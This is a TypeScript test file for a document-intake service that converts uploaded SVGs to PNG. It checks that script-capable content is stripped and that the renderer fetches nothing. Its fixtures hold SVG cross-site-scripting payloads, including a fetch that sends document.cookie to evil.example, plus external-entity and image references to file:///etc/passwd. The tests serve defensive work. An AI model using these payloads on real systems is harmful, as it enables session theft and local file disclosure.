/**
 * Active content (issue 14, point 12): an SVG can be a program, and the old
 * "no scripts" blocklist let `<svg/onload>`, an entity-encoded `javascript:`,
 * foreignObject with an iframe srcdoc and `<animate>` through. SVGs are now
 * rendered into PNG on intake; what is stored and served is pixels only, and
 * the renderer fetches nothing from outside while doing it.
 */
import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { and, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { GET as attachmentGET } from '@/app/api/attachments/[id]/route';
import { attachments, auditEvents, submissions } from '@/db/schema';
import { unitStream } from '@/server/services/audit/audit';
import { intakeAnswer } from '@/server/intake-http';
import { makeSubmission, makeUnit, TEST_PASSWORD, testDb } from './fixtures';
import { Browser, request, stubConsoleEnv } from './helpers/sessions';
import { makeClient, submissionBody } from './intake-fixtures';

/** A server that counts every connection and request: librsvg must never call it. */
let hits: string[] = [];
let connections = 0;
let server: Server;
let origin = '';
beforeAll(async () => {
  stubConsoleEnv();
  server = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.setHeader('content-type', 'image/png');
    res.end(Buffer.alloc(0));
  });
  server.on('connection', () => connections++);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  vi.unstubAllEnvs();
  await new Promise<void>((r) => server.close(() => r()));
});

const SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const doc = (inner: string) =>
  `<svg ${SVG_NS} width="240" height="80"><rect width="240" height="80" fill="#eeeeee"/><text x="10" y="40">KARTU KELUARGA</text>${inner}</svg>`;

/** The payloads the outside probe got past the old check, and the one the old check did stop. */
const ACTIVE: Record<string, string> = {
  'onload handler': `<svg ${SVG_NS} width="240" height="80" onload="alert(document.domain)"><text x="10" y="40">KK</text></svg>`,
  'nested <svg/onload>-style handler': doc(`<svg onload="fetch('//evil.example/'+document.cookie)" width="10" height="10"/>`),
  'entity-encoded javascript:': doc(
    `<a href="&#106;avascript:alert(1)"><text x="10" y="70">klik</text></a><a xlink:href="&#x6A;&#x61;vascript&#58;alert(2)"><rect width="5" height="5"/></a>`,
  ),
  'foreignObject with iframe srcdoc': doc(
    `<foreignObject width="200" height="60"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe></foreignObject>`,
  ),
  'animate setting href': doc(
    `<a><animate attributeName="href" values="javascript:alert(1)"/><text x="10" y="70">lanjut</text></a><set attributeName="onmouseover" to="alert(1)"/>`,
  ),
  'script element': `<svg ${SVG_NS} width="240" height="80"><script>alert(1)</script><text x="10" y="40">KK</text></svg>`,
};

/** Chunk types of a PNG: pixels and colour information only, never text chunks or anything else a viewer might act on. */
function pngChunks(png: Buffer): string[] {
  expect(png.subarray(0, 8).equals(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]))).toBe(true);
  const types: string[] = [];
  for (let p = 8; p < png.length; ) {
    const len = png.readUInt32BE(p);
    types.push(png.toString('latin1', p + 4, p + 8));
    p += 12 + len;
  }
  return types;
}

const intake = (db: ReturnType<typeof testDb>, client: Awaited<ReturnType<typeof makeClient>>['client'], body: unknown) =>
  intakeAnswer(db, { enqueueDrafting: async () => undefined }, client, body, null);

const svgAttachment = (svg: string, filename = 'kk.svg') => {
  const bytes = Buffer.from(svg, 'utf8');
  return {
    docType: 'kk' as const,
    filename,
    mime: 'image/svg+xml' as const,
    contentBase64: bytes.toString('base64'),
    sha256: createHash('sha256').update(bytes).digest('hex'),
  };
};

async function storedFor(db: ReturnType<typeof testDb>, ticket: string) {
  const [sub] = await db.select({ id: submissions.id, unitId: submissions.unitId }).from(submissions).where(eq(submissions.ticket, ticket));
  const docs = await db.select().from(attachments).where(eq(attachments.submissionId, sub.id));
  return { sub, docs };
}

describe('SVG attachments are stored as the PNG they render to', () => {
  it.each(Object.entries(ACTIVE))('%s: accepted, stored as a PNG with nothing script-capable left', async (_name, svg) => {
    const db = testDb();
    const unit = await makeUnit(db);
    const { client } = await makeClient(db, unit.unitId);
    const original = svgAttachment(svg);
    const res = await intake(db, client, submissionBody({ attachments: [original] }));
    expect(res.status).toBe(201);
    const { sub, docs } = await storedFor(db, res.body.ticket as string);
    expect(docs).toHaveLength(1);
    const [stored] = docs;
    expect(stored).toMatchObject({ mime: 'image/png', filename: 'kk.png', size: stored.content.length });
    expect(stored.sha256).toBe(createHash('sha256').update(stored.content).digest('hex'));
    expect((await sharp(stored.content).metadata()).format).toBe('png');
    const chunks = pngChunks(stored.content);
    expect(chunks.filter((c) => !['IHDR', 'PLTE', 'IDAT', 'IEND', 'tRNS', 'pHYs', 'gAMA', 'cHRM', 'sRGB'].includes(c))).toEqual([]);
    const latin1 = stored.content.toString('latin1').toLowerCase();
    for (const token of ['<svg', 'script', 'javascript', 'onload', 'iframe', 'animate', 'srcdoc']) expect(latin1).not.toContain(token);
    // The page was drawn (the grey background), not swapped for an empty picture.
    const { dominant } = await sharp(stored.content).stats();
    expect(dominant.r).toBeGreaterThan(200);

    // The channel learns what happened to its file, and the audit trail keeps the original's hash.
    expect(res.body.attachments).toEqual([
      {
        filename: 'kk.png',
        sha256: stored.sha256,
        size: stored.content.length,
        convertedFrom: 'image/svg+xml',
        originalFilename: 'kk.svg',
        originalSha256: original.sha256,
      },
    ]);
    const [ev] = await db
      .select({ payload: auditEvents.payload })
      .from(auditEvents)
      .where(and(eq(auditEvents.stream, unitStream(sub.unitId)), eq(auditEvents.entityId, sub.id), eq(auditEvents.action, 'submission.received')));
    expect(ev.payload).toMatchObject({
      converted: [
        { mime: 'image/svg+xml', filename: 'kk.svg', sha256: original.sha256, size: Buffer.byteLength(svg), to: 'image/png', storedSha256: stored.sha256 },
      ],
    });
  });

  it('refuses an SVG that is not well-formed (a browser-only <svg/onload> spelling) or does not render, and stores nothing', async () => {
    const db = testDb();
    const unit = await makeUnit(db);
    const { client } = await makeClient(db, unit.unitId);
    for (const svg of [`<svg ${SVG_NS}><svg/onload=alert(1)></svg>`, `<svg ${SVG_NS} width="100000" height="100000"><rect width="10" height="10"/></svg>`]) {
      const res = await intake(db, client, submissionBody({ attachments: [svgAttachment(svg)] }));
      expect(res.status).toBe(400);
      expect(res.body).toMatchObject({
        error: { code: 'VALIDATION_FAILED', fields: { 'attachments.0.contentBase64': expect.stringContaining('image/svg+xml') } },
      });
    }
    expect(await db.select().from(submissions).where(eq(submissions.unitId, unit.unitId))).toHaveLength(0);
  });

  it('the renderer fetches nothing: http and file references, external entities, stylesheets and filters stay unresolved', async () => {
    const db = testDb();
    const unit = await makeUnit(db);
    const { client } = await makeClient(db, unit.unitId);
    hits = [];
    connections = 0;
    const external = [
      doc(`<image href="${origin}/image" width="50" height="50"/><image xlink:href="${origin}/xlink" width="50" height="50"/>`),
      doc(`<image href="file:///etc/passwd" width="50" height="50"/><use href="${origin}/use.svg#a"/>`),
      doc(
        `<style>@import url(${origin}/import.css); rect { fill: url(${origin}/fill.svg#p) }</style><filter id="f"><feImage href="${origin}/feimage"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
      ),
      doc(`<style>@font-face { font-family: x; src: url(${origin}/font.woff) }</style><text font-family="x" y="70">a</text>`),
      `<?xml version="1.0"?><?xml-stylesheet href="${origin}/pi.css" type="text/css"?>${doc('')}`,
    ];
    const res = await intake(db, client, submissionBody({ attachments: external.map((svg, i) => svgAttachment(svg, `d${i}.svg`)) }));
    expect(res.status).toBe(201);
    const { docs } = await storedFor(db, res.body.ticket as string);
    expect(docs.map((d) => d.mime)).toEqual(external.map(() => 'image/png'));
    // An external entity is refused by the parser outright (nothing stored, nothing fetched).
    const entity = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${origin}/entity"><!ENTITY f SYSTEM "file:///etc/passwd">]>${doc('<text y="75">&x;&f;</text>')}`;
    expect((await intake(db, client, submissionBody({ attachments: [svgAttachment(entity)] }))).status).toBe(400);
    await new Promise((r) => setTimeout(r, 300));
    expect({ hits, connections }).toEqual({ hits: [], connections: 0 });
  });
});

describe('the attachment route never serves image/svg+xml', () => {
  it('serves an intake-converted SVG as PNG, renders an SVG stored before the change as PNG, and offers an unrenderable one only as a download', async () => {
    const db = testDb();
    const unit = await makeUnit(db);
    const { client } = await makeClient(db, unit.unitId);
    const res = await intake(db, client, submissionBody({ attachments: [svgAttachment(ACTIVE['script element'])] }));
    const { docs } = await storedFor(db, res.body.ticket as string);
    // Rows as they were stored before intake rasterised SVGs (the test fixtures store one too).
    const legacy = await makeSubmission(db, unit.unitId);
    const [scripted] = await db
      .insert(attachments)
      .values({
        submissionId: legacy.id,
        docType: 'akta',
        filename: 'akta.svg',
        mime: 'image/svg+xml',
        size: 1,
        sha256: 'x',
        content: Buffer.from(ACTIVE['onload handler']),
      })
      .returning({ id: attachments.id });
    const [broken] = await db
      .insert(attachments)
      .values({
        submissionId: legacy.id,
        docType: 'other',
        filename: 'x.svg',
        mime: 'image/svg+xml',
        size: 1,
        sha256: 'x',
        content: Buffer.from('<svg/onload=alert(1)>'),
      })
      .returning({ id: attachments.id });

    const token = await new Browser().signIn(unit.officer.email, TEST_PASSWORD);
    const open = (id: string) =>
      attachmentGET(request(`/api/attachments/${id}`, { token, headers: { 'sec-fetch-site': 'same-origin' } }), { params: Promise.resolve({ id }) });

    const converted = await open(docs[0].id);
    expect(converted.status).toBe(200);
    expect(converted.headers.get('content-type')).toBe('image/png');
    expect(Buffer.from(await converted.arrayBuffer()).equals(docs[0].content)).toBe(true);

    const old = await open(scripted.id);
    expect(old.headers.get('content-type')).toBe('image/png');
    expect(old.headers.get('content-disposition')).toBe('inline; filename="akta.png"');
    expect((await sharp(Buffer.from(await old.arrayBuffer())).metadata()).format).toBe('png');

    const unrenderable = await open(broken.id);
    expect(unrenderable.headers.get('content-type')).toBe('application/octet-stream');
    expect(unrenderable.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(unrenderable.headers.get('content-security-policy')).toContain('sandbox');
    for (const r of [converted, old, unrenderable]) expect(r.headers.get('content-type')).not.toContain('svg');
  });
});
